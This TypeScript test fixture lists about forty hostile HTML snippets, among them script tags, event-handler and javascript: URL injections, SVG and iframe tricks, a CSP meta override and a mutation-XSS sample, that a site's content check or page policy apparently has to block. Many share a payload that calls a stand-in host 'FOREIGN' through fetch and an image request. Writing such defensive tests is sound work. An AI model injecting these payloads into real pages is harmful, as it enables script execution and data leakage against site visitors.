/**
 * Markup that wants to run something or to tell somebody, for a page of a site. FOREIGN stands for the address of the other host.
 */

export interface HostileMarkup {
  name: string;
  html: string;
  /** No policy of a page can stop it, so that the content check alone has to refuse it. */
  isForCheck?: boolean;
}

const run = "window.ran=1;new Image().src='FOREIGN/ran';fetch('FOREIGN/ran')";

export const hostileMarkup: HostileMarkup[] = [
  { name: "a script", html: `<script>${run}</script>` },
  { name: "a module", html: `<script type="module">${run}</script>` },
  {
    name: "a script of another host",
    html: '<script src="FOREIGN/x.js"></script>',
  },
  {
    name: "a script in a data address",
    html: `<script src="data:text/javascript,${run}"></script>`,
  },
  {
    name: "a script of the site's own media",
    html: '<script src="/media/evil.js"></script>',
    isForCheck: true,
  },
  {
    name: "an import map",
    html: '<script type="importmap">{"imports":{"x":"FOREIGN/x.js"}}</script>',
  },
  {
    name: "speculation rules",
    html: '<script type="speculationrules">{"prefetch":[{"urls":["FOREIGN/x"]}]}</script>',
  },
  { name: "onload of a drawing", html: `<svg onload="${run}"></svg>` },
  { name: "a script in a drawing", html: `<svg><script>${run}</script></svg>` },
  {
    name: "a link in a drawing",
    html: `<svg><a href="javascript:${run}"><text y="20">x</text></a></svg>`,
  },
  {
    name: "an image in a drawing",
    html: '<svg><image href="FOREIGN/x.svg"/><use href="FOREIGN/x.svg#a"/></svg>',
  },
  {
    name: "an animated address",
    html: `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a></svg>`,
  },
  {
    name: "onerror of an image",
    html: `<img src="/nothing.png" alt="" onerror="${run}">`,
  },
  { name: "onfocus", html: `<input autofocus onfocus="${run}">` },
  {
    name: "ontoggle",
    html: `<details open ontoggle="${run}"><summary>x</summary></details>`,
  },
  { name: "onclick", html: `<button onclick="${run}">x</button>` },
  {
    name: "onanimationstart",
    html: `<b style="animation: x 1s" onanimationstart="${run}">x</b>`,
  },
  { name: "a javascript link", html: `<a href="javascript:${run}">x</a>` },
  {
    name: "a javascript link with a tab",
    html: `<a href="java&#9;script:${run}">x</a>`,
  },
  {
    name: "a javascript form",
    html: `<form action="javascript:${run}"><button>x</button></form>`,
  },
  {
    name: "a javascript button",
    html: `<form><button formaction="javascript:${run}">x</button></form>`,
  },
  {
    name: "a form to another host",
    html: '<form action="FOREIGN/form" method="post"><input name="a" value="b"><button>x</button></form>',
  },
  {
    name: "a style",
    html: "<style>body{background:url(FOREIGN/style)}@import url(FOREIGN/import);</style>",
  },
  {
    name: "a style attribute",
    html: '<p style="background:url(FOREIGN/style)">x</p>',
  },
  {
    name: "a style sheet of another host",
    html: '<link rel="stylesheet" href="FOREIGN/x.css">',
  },
  {
    name: "an image of another host",
    html: '<img src="FOREIGN/x.png" alt=""><img srcset="FOREIGN/y.png 2x" alt="">',
  },
  {
    name: "a film of another host",
    html: '<video src="FOREIGN/x.mp4" poster="FOREIGN/x.png" autoplay muted></video><audio src="FOREIGN/x.mp3" autoplay></audio>',
  },
  {
    name: "a frame of another host",
    html: '<iframe src="FOREIGN/frame"></iframe>',
  },
  {
    name: "a frame with a document",
    html: `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  },
  {
    name: "a frame that runs",
    html: `<iframe src="javascript:${run}"></iframe>`,
  },
  {
    name: "a frame of data",
    html: `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  },
  {
    name: "an object",
    html: '<object data="FOREIGN/x"></object><embed src="FOREIGN/y">',
  },
  {
    name: "an object of data",
    html: `<object data="data:text/html,<script>${run}</script>"></object>`,
  },
  {
    name: "a base",
    html: '<base href="FOREIGN/"><img src="relative.png" alt=""><script src="x.js"></script>',
  },
  {
    name: "a prefetch",
    html: '<link rel="prefetch" href="FOREIGN/prefetch"><link rel="preload" as="script" href="FOREIGN/preload"><link rel="modulepreload" href="FOREIGN/module">',
  },
  { name: "a manifest", html: '<link rel="manifest" href="FOREIGN/manifest">' },
  { name: "a ping", html: '<a href="#x" ping="FOREIGN/ping">x</a>' },
  {
    name: "a policy of its own",
    html: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${run}</script>`,
  },
  {
    name: "a refresh",
    html: '<meta http-equiv="refresh" content="0;url=FOREIGN/refresh">',
    isForCheck: true,
  },
  {
    name: "a refresh that runs",
    html: `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  },
  {
    name: "markup that changes when it is parsed again",
    html: `<noscript><p title="</noscript><img src=/nothing.png onerror=${JSON.stringify(run)}>"></noscript><math><mtext><table><mglyph><style><img src=/nothing.png onerror="${run}"></style></table></math>`,
  },
];
